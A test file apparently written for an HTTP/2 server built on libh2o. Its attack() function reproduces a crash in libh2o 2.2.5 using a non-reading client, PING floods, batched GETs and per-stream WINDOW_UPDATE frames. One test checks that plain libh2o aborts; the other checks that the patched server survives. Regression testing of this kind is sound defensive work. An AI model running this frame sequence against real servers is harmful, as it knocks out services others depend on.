// libh2o 2.2.5 aborts when a WINDOW_UPDATE reaches a stream whose last bytes are still on their way to a client that
// does not read. Any endpoint will do. The guard leaves such streams a window that no update lifts from zero.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sleep, start, until } from '../helper.mjs';
import { Attacker, frame, get, INITIAL_WINDOW, PING, setting, u32, unharmed, victim, WINDOW_UPDATE } from './frames.mjs';

const BODY = 'hello'.length, BATCH = 90, ROUNDS = 250;

/** Fills the way to the deaf client with answers to pings, a little in each round, with short answers at its end. */
async function attack(t, port, over) {
    const a = await Attacker.open(t, port, { deaf: true, settings: setting(INITIAL_WINDOW, BODY) });
    await a.send(frame(WINDOW_UPDATE, 0, 0, u32(0x7fffffff - 65535)));
    const pings = Buffer.concat(Array.from({ length: 1500 }, () => frame(PING, 0, 0, Buffer.alloc(8))));
    let stream = 1;
    for (let round = 0; round < ROUNDS && !over() && !a.isClosed; round++) {
        const ids = Array.from({ length: BATCH }, () => (stream += 2) - 2);
        await a.send(Buffer.concat([pings, ...ids.map((id) => get(id, '/hello'))]), 200);
        await sleep(4);
        await a.send(Buffer.concat(ids.map((id) => frame(WINDOW_UPDATE, 0, id, u32(1)))), 200);
        await sleep(2);
    }
}

test('the abort by WINDOW_UPDATE: kills plain libh2o', async (t) => {
    const plain = await victim(t);
    for (let i = 0; i < 5 && !plain.ended; i++) await attack(t, plain.port, () => plain.ended);
    await until(() => plain.ended, 'the victim dies');
    assert.equal(plain.ended, 'SIGABRT');
});

test('the abort by WINDOW_UPDATE: leaves ours serving', async (t) => {
    const server = await start(t, { hooks: { 'hello.lua': 'return function() return "hello" end' }, workers: 1 });
    const before = server.children('worker');
    for (let i = 0; i < 5; i++) await attack(t, server.port, () => false);
    await unharmed(server, before, assert);
});
